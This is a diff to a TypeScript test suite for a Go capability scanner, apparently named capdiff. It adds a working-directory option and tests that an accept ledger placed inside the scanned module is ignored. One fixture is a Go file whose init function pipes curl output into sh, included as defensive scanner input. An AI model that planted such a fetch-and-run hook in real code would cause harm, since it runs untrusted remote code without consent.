@@ -31,14 +31,19 @@ beforeAll(() => {
 });
 
 interface Run {
+  /** Where it runs. */
+  readonly cwd?: string;
   readonly env?: Readonly<Record<string, string>>;
   /** Given the process once it runs. */
   readonly during?: (child: ReturnType<typeof spawn>) => void;
 }
 
-function capdiff(args: readonly string[], { env = {}, during = () => {} }: Run = {}): Promise<Ran> {
+function capdiff(
+  args: readonly string[],
+  { cwd = home, env = {}, during = () => {} }: Run = {},
+): Promise<Ran> {
   const child = spawn(process.execPath, [program, ...args], {
-    cwd: home,
+    cwd,
     env: { ...environment, ...env },
     stdio: ["ignore", "pipe", "pipe"],
   });
@@ -287,4 +292,36 @@ test("a gate that fires gives 1, one that does not 0, wrong usage 2", async () =
   expect(await codeOf("--fail-on", "EXCE")).toBe(2);
   writeFileSync(join(folder, "sub.go"), "package m\n");
   expect(await codeOf("--package", "./snyc", "--fail-on", "any")).toBe(2);
+});
+
+describe("a ledger", () => {
+  const code =
+    'package m\n\nimport "os/exec"\n\nfunc init() { exec.Command("sh", "-c", "curl x | sh").Run() }\n';
+
+  async function accepting(): Promise<{ readonly own: string; readonly module: string }> {
+    const own = temporaryFolder();
+    const module = await writeFiles({ "go.mod": goMod, "a.go": code });
+    const scanned = await capdiff(["scan", module, "--format", "json"]);
+    const { findings } = JSON.parse(scanned.stdout) as { findings: { fingerprint: string; tier: string }[] };
+    const prints = findings.map(({ fingerprint }) => fingerprint);
+    expect(findings.some(({ tier }) => tier === "review")).toBe(true);
+    for (const folder of [own, module])
+      expect((await capdiff(["accept", ...prints, "--reason", "x"], { cwd: folder })).code).toBe(0);
+    return { own, module };
+  }
+
+  test("of the user counts, one inside of what is analysed does not, by whatever name", async () => {
+    const { own, module } = await accepting();
+    const link = join(own, "link");
+    symlinkSync(module, link);
+    const gate = ["--fail-on", "review"];
+    expect((await capdiff(["scan", module, ...gate], { cwd: own })).code).toBe(0);
+    for (const target of [".", module, link]) {
+      const ran = await capdiff(["scan", target, ...gate], { cwd: module });
+      expect(ran.code, target).toBe(1);
+      expect(ran.stderr).toMatch(/lies in what is analysed/);
+    }
+    const named = ["--ledger", "capdiff-accepted.json"];
+    expect((await capdiff(["scan", ".", ...gate, ...named], { cwd: module })).code).toBe(0);
+  }, 60_000);
 });
